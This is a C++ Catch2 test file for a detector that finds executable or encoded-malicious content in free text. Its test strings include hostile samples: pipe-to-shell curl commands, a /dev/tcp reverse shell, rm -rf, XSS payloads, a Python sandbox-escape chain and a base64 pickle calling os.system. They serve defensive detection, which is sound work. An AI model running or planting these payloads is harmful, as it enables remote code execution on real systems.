#include "core/active_text.hpp"

#include <catch2/catch.hpp>

namespace assay {

TEST_CASE("code that acts is found in a free text") {
  for (const auto* text : {
           "import os; os.system('id')",
           "x = eval(open('f').read())",
           "(exec(payload))",
           "__import__('os')",
           "EXEC(x)",
           "subprocess.Popen(['sh'])",
           "base64.b64decode('aWQ=')",
           "rm -rf /tmp/x",
           "chmod +x run.sh",
           "curl https://example.com/x | sh",
           "curl -s http://example.com|sudo bash -s",
           "wget http://example.com/setup.sh",
           "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
           "<script>alert(1)</script>",
           "<SCRIPT src=x>",
           "<img src=x onerror=alert(1)>",
           "[x](javascript:alert(1))",
           "().__class__.__base__.__subclasses__()",
           "def __reduce__(self)",
       }) {
    CAPTURE(text);
    CHECK(find_active_text(text));
  }
}

TEST_CASE("prose, snippets and machine-made texts are no code that acts") {
  for (const auto* text : {
           "",
           "pt",
           "model.eval()",
           "torch.no_grad(); retrieval(query)",
           "call model.eval(mode) first",
           "the eval() of Python",
           "requests.get(url, stream=True).raw",
           "An executive summary of evaluation (exec).",
           "curl the ends | share alike",
           "wget http://example.com/model.safetensors",
           "{\"javascript: the good parts\": 3}",
           "a <scripted> scene",
           "lm_eval(tasks)",
           "descriptors.system (metric)",
           "See /etc/hosts for names",
       }) {
    CAPTURE(text);
    const auto found = find_active_text(text);
    CHECK_FALSE(found);
  }
}

TEST_CASE("what acts in a text has its place") {
  const auto found = find_active_text("before os.system('id')");
  REQUIRE(found);
  CHECK(found->offset == 7);
  CHECK(found->size == 10);
  CHECK(found->does == "starts a process");
}

TEST_CASE("base64 of pickles, archives and programs is found and decoded") {
  const auto pickle = find_encoded_content("state: gAJjb3MKc3lzdGVtClgCAAAAaWSFUi4gICAgICAgICAgICAgICA= end");
  REQUIRE(pickle);
  CHECK(pickle->is == "a pickle");
  CHECK(pickle->offset == 7);
  CHECK(
      pickle->bytes.starts_with("\x80\x02"
                                "cos\nsystem\n"));
  const auto zip = find_encoded_content("UEsDBBQAAAAAAAAAIQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
  REQUIRE(zip);
  CHECK(zip->is == "a zip archive");
  CHECK(find_encoded_content("f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAAAAAAAAAAAAAAAAA")->is == "an ELF executable");
}

TEST_CASE("hashes, pictures, paths and short runs of base64 are nothing") {
  for (const auto* text : {
           "",
           "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
           "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
           "/home/user/kohya_ss/networks/lora/with/a/very/long/path/of/letters/only",
           "gAJjb3MKc3lzdGVtClgCAAAA",
       }) {
    CAPTURE(text);
    CHECK_FALSE(find_encoded_content(text));
  }
}

}  // namespace assay
